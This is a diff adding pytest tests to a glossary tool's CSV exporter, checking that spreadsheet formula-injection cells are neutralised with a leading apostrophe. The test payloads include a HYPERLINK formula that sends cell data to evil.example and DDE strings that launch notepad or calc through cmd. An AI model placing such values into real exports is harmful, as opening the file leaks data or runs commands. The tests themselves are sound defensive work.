@@ -9,7 +9,8 @@ from pathlib import Path
 import pytest
 
 from glossweave.core.pipeline import build_glossary
-from glossweave.export.csvexport import COLUMNS, LIST_SEPARATOR, write_csv
+from glossweave.core.model import Block, BlockKind, Entry, Glossary, Header, Layout, NameSource, RawEntry, Report, Sense, Source, Term
+from glossweave.export.csvexport import COLUMNS, LIST_SEPARATOR, neutralised, write_csv
 
 HERE = Path(__file__).parent
 SMALL = HERE / "fixtures" / "exports"
@@ -70,3 +71,45 @@ def test_small_glossary_fields_need_quoting_and_get_it(tmp_path):
     assert alpha[COLUMNS.index("links")] == "gamma-delta"
     # "alpha b" is not a form of the name, "ab" is its initials
     assert (alpha[COLUMNS.index("aliases")], alpha[COLUMNS.index("keywords")]) == ("AB", "alpha b")
+
+
+# --- cells a spreadsheet would run (issue 10 §5) ----------------------------------------
+
+PAYLOADS = {
+    "equals": "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
+    "plus": "+1+cmd|' /C notepad'!A0",
+    "minus": "-2+3+cmd|' /C notepad'!A0",
+    "at": "@SUM(1+1)*cmd|' /C notepad'!A0",
+    "tab": "\t=1+1",
+    "carriage-return": "\r=1+1",
+    "line-feed": "\n=1+1",
+    "spaces-first": "   =1+1",
+    "full-width-equals": "\uff1d1+1",
+    "full-width-at": "\uff20SUM(1)",
+}
+
+
+@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
+def test_a_cell_a_spreadsheet_would_run_gets_a_leading_apostrophe(payload):
+    assert neutralised(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("text", ["GPU", "a - b", "x = 1", "email@example.org", "'quoted'", "", " leading space"])
+def test_other_cells_are_left_as_they_are(text):
+    assert neutralised(text) == text
+
+
+def test_every_column_of_a_hostile_glossary_is_neutralised(tmp_path):
+    source = Source("x.txt", 1)
+    raw = RawEntry(source, "header", ["@SUM(A1:A9)"], 2, Layout.LINES)
+    entry = Entry(raw, Header(["=cmd", "=category"], "spaced"), "=cmd", NameSource.BOLD, [Block(BlockKind.PARAGRAPH, ["@SUM(A1:A9)"])],
+                  "-2+3 summary")
+    hostile = Term("hostile", "=cmd|' /C calc'!A0", ["+alias", "@alias"], [Sense("=category", entry, [source])], keywords=["-keyword"])
+    path = write_csv(Glossary([hostile], Report()), tmp_path / "g.csv")
+    with path.open(encoding="utf-8", newline="") as handle:
+        (_, row) = list(csv.reader(handle))
+    cells = dict(zip(COLUMNS, row, strict=True))
+    assert cells["name"] == "'=cmd|' /C calc'!A0"
+    assert cells["aliases"] == "'+alias; @alias" and cells["keywords"] == "'-keyword"
+    assert (cells["category"], cells["summary"], cells["definition_markdown"]) == ("'=category", "'-2+3 summary", "'@SUM(A1:A9)")
+    assert not [value for value in row if value and value[0] in "=+-@\t\r"]
